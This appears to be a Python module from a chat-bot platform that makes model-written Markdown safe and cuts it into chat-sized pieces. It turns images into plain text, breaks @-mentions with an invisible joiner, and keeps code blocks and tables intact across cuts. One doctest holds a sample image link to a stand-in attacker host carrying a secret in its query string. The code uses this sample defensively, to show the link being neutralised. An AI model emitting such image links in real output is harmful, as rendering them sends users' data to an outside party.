"""Markdown that models write: made harmless, and cut into pieces that a chat takes."""

from __future__ import annotations

import re
import unicodedata
from bisect import bisect_right
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from functools import cached_property
from itertools import accumulate, pairwise

from markdown_it import MarkdownIt
from markdown_it.token import Token

from moabot_platforms.words import printable

__all__ = ["JOINER", "Piece", "cut", "harmless", "pieces", "through"]

JOINER = "\N{WORD JOINER}"
"""Invisible; put where a chat would otherwise see a mention or a picture."""

MENTION = re.compile(
    r"((?:<|&lt;|&#0*60;|&#x0*3c;)(?=!(?:channel|here|everyone|group|subteam|date)\b|@[!&]?[a-z0-9]"
    r"|\#[a-z0-9]|/[^<>\n]{1,80}:\d|id:[a-z]))|(@(?=(?:everyone|here|channel)\b))",
    re.IGNORECASE,
)
# Possessive, so that no text takes longer than its length (Python 3.11 has *+).
PICTURE = re.compile(r"!\[([^\[\]]*+)\]\(\s*+<?((?:[^\s<>()]|\([^\s<>()]*+\))*+)[^()]*+\)|(!\[)")
SENTENCE = re.compile(r"[.!?…][\"'”’)\]*_]*\s+|[。！？]")  # noqa: RUF001 - those are full stops too
TICKS = re.compile(r"(?<!\\)(\\*+)(`++)")
BAR = re.compile(r"(?<!\\)\|")


def harmless(text: str) -> str:
    """`text` without what acts on its readers: control characters, pictures, mentions.

    A picture becomes its description and its address as code. A mention of Slack or Discord gets
    a `JOINER` inside, which nobody sees and no chat understands. Code keeps its characters, but
    for mentions.

    >>> harmless("![a cat](https://evil.example/?q=secret)")
    'a cat (`https://evil.example/?q=secret`)'
    """
    plain = printable(text.replace("\r\n", "\n").replace("\r", "\n").replace(JOINER, ""))
    return MENTION.sub(rf"\g<0>{JOINER}", _without_images(plain))


def pieces(text: str, *, limit: int) -> list[str]:
    """`text` in pieces of at most `limit` characters (100 or more), blank ones left out.

    See `cut` for where.
    """
    return [str(piece) for piece in cut(text, limit=limit) if piece.text.strip()]


@dataclass(frozen=True, slots=True)
class Piece:
    """A part of a text; `before` opens again and `after` closes what the cut went through."""

    before: str
    text: str
    after: str

    def __str__(self) -> str:
        return f"{self.before}{self.text}{self.after}"


def cut(text: str, *, limit: int) -> list[Piece]:
    """Cut between blocks, else lines, sentences or words, whichever fills at least half a piece.

    The `text` of all pieces, joined, is the text. A code block that is cut is closed and opened
    again with its language, a table gets its header again.
    """
    if len(text) <= limit:
        return [Piece("", text, "")]
    return list(_cut(_Layout(text, limit)))


def through(text: str, place: int) -> tuple[str, str]:
    """What closes before a cut of `text` at `place`, and what opens again after it."""
    layout = _Layout(text, 12_000)
    span = layout.span_at(place)
    return ("", "") if span is None else (_closing(span, text, place), span.before)


@dataclass(frozen=True, slots=True)
class _Span:
    """From the first to the last place where a cut needs `before` and `after`."""

    start: int
    end: int
    before: str
    after: str
    closed: bool = False


class _Layout:
    """Where the blocks, lines and spans of a text begin."""

    def __init__(self, text: str, limit: int) -> None:
        self.text = text
        self.limit = limit
        self._lines = text.split("\n")
        self.starts = [0, *accumulate(len(line) + 1 for line in self._lines)]
        self._tokens = _blocks(text)

    @cached_property
    def spans(self) -> list[_Span]:
        """The code blocks and tables, in order."""
        found = [span for token in self._tokens if (span := self._span(token)) is not None]
        return [s for s in found if len(s.before) + len(s.after) <= self.limit // 4]

    @cached_property
    def blocks(self) -> list[int]:
        """Where a piece begins best: paragraphs, lists, headings, but not what a heading is of."""
        places: list[int] = []
        heading = False
        for token in self._tokens:
            if token.level == 0 and token.map and token.nesting >= 0:
                if not heading:
                    places.append(self.starts[token.map[0]])
                heading = token.type == "heading_open"
        return places

    def span_at(self, place: int) -> _Span | None:
        """What a cut at `place` goes through."""
        index = bisect_right(self.spans, place, key=lambda span: span.start)
        if index and place <= self.spans[index - 1].end:
            return self.spans[index - 1]
        return None

    def best(self, begin: int, end: int) -> int:
        """The best place for a cut after the middle of `begin` to `end`, at most `end`."""
        middle = (begin + end) // 2
        for places in (self.blocks, self.starts):
            for index in range(bisect_right(places, end) - 1, -1, -1):
                if places[index] <= middle:
                    break
                span = self.span_at(places[index])
                if span is None or not (span.closed and places[index] == span.end):
                    return places[index]
        for pattern in (SENTENCE, re.compile(r"\s+")):
            if found := [match.end() for match in pattern.finditer(self.text, middle, end)]:
                return found[-1]
        return _between_letters(self.text, middle, end)

    def _span(self, token: Token) -> _Span | None:
        if token.map is None:
            return None
        first, last = token.map
        if token.type == "fence":
            line = self._lines[first]
            prefix = _prefix(line[: max(line.find(token.markup), 0)])
            closed = last - first > 1 and self._lines[last - 1].strip(" >") == token.markup
            end = self.starts[last - 1] if closed else min(self.starts[last], len(self.text))
            language = (token.info.split() or [""])[0]
            opening = f"{prefix}{token.markup}{language}\n"
            return _Span(self.starts[first + 1], end, opening, prefix + token.markup, closed)
        if token.type == "table_open" and last - first > 2:
            header = "".join(f"{line}\n" for line in self._lines[first : first + 2])
            return _Span(self.starts[first + 2], self.starts[last] - 1, header, "")
        return None


def _cut(layout: _Layout) -> Iterator[Piece]:
    text = layout.text
    closing = max((len(span.after) for span in layout.spans), default=0) + 1
    begin, before = 0, ""
    while begin < len(text):
        room = layout.limit - len(before)
        if len(text) - begin <= room:
            yield Piece(before, text[begin:], "")
            return
        end = layout.best(begin, begin + room - closing)
        span = layout.span_at(end)
        after = _closing(span, text, end) if span is not None else ""
        yield Piece(before, text[begin:end], after)
        begin, before = end, span.before if span is not None else ""


def _closing(span: _Span, text: str, end: int) -> str:
    return f"\n{span.after}" if span.after and text[end - 1] != "\n" else span.after


def _prefix(indent: str) -> str:
    """What stands before a fence, fit to begin a text: no list's bullet, no code's indent."""
    if ">" in indent:
        return "".join(letter if letter == ">" else " " for letter in indent)
    return " " * min(len(indent), 3)


def _between_letters(text: str, begin: int, end: int) -> int:
    for place in range(end, max(begin, end - 16), -1):
        if not _joins(text[place]) and not _joins(text[place - 1], after=True):
            return place
    return end


def _joins(letter: str, *, after: bool = False) -> bool:
    """Whether it belongs to the letter before it; with `after`, to the one after it."""
    if after:
        return letter == "\N{ZERO WIDTH JOINER}"
    return unicodedata.category(letter) in {"Mn", "Me", "Cf"} or "🏻" <= letter <= "🏿"


def _blocks(text: str) -> Sequence[Token]:
    """The blocks of `text`; what stands inside a line is not looked at, which keeps it linear."""
    parser = MarkdownIt("commonmark").enable("table")
    parser.core.ruler.enableOnly(["normalize", "block"])
    return parser.parse(text)


def _without_images(text: str) -> str:
    if "![" not in text:
        return text
    code = _code(text)
    starts = [start for start, _ in code]

    def is_code(place: int) -> bool:
        index = bisect_right(starts, place)
        return index > 0 and place < code[index - 1][1]

    def replaced(match: re.Match[str]) -> str:
        if is_code(match.start()):
            return match[0]
        # What is no plain picture (a reference, brackets in the description) becomes a link.
        return f"!{JOINER}[" if match[3] else _as_text(match[1], match[2]) or JOINER

    return PICTURE.sub(replaced, text)


def _as_text(description: str, address: str) -> str:
    # The bytes of a picture that stands in its own address are no text.
    shown = f"{address[:40]}…" if address.startswith("data:") and len(address) > 40 else address
    shown = f"`{shown.replace('`', '%60')}`" if shown else ""
    what = " ".join(description.split())
    return f"{what} ({shown})" if what and shown else what or shown


def _code(text: str) -> list[tuple[int, int]]:
    """Where code stands, in blocks and in lines, in order and apart."""
    starts = [0, *accumulate(len(line) + 1 for line in text.split("\n"))]
    found: list[tuple[int, int]] = []
    before = ""
    for token in _blocks(text):
        in_cell, before = before in {"th_open", "td_open"}, token.type
        if token.map is None or in_cell:  # a cell does not tell where in its row it is
            continue
        begin, end = starts[token.map[0]], min(starts[token.map[1]], len(text))
        if token.type in {"fence", "code_block"}:
            found.append((begin, end))
        elif token.type == "inline":
            found.extend(_spans_of_code(text, begin, end))
        elif token.type == "tr_open":  # each cell is a text of its own
            cells = [begin, *(bar.end() for bar in BAR.finditer(text, begin, end)), end]
            for cell in pairwise(cells):
                found.extend(_spans_of_code(text, *cell))
    return sorted(found)


def _spans_of_code(text: str, begin: int, end: int) -> Iterator[tuple[int, int]]:
    """A run of backticks up to the next run of the same length, as CommonMark says; linear.

    A backslash takes the first one out of a run that opens, not out of one that closes.
    """
    found = list(TICKS.finditer(text, begin, end))
    runs = [match.span(2) for match in found]
    later: dict[int, list[int]] = {}
    for index in range(len(runs) - 1, -1, -1):
        later.setdefault(runs[index][1] - runs[index][0], []).append(index)
    index = 0
    while index < len(runs):
        start, stop = runs[index][0] + len(found[index][1]) % 2, runs[index][1]
        alike = later.get(stop - start, [])
        while alike and alike[-1] <= index:
            alike.pop()
        if alike:
            index = alike[-1]
            yield start, runs[index][1]
        index += 1
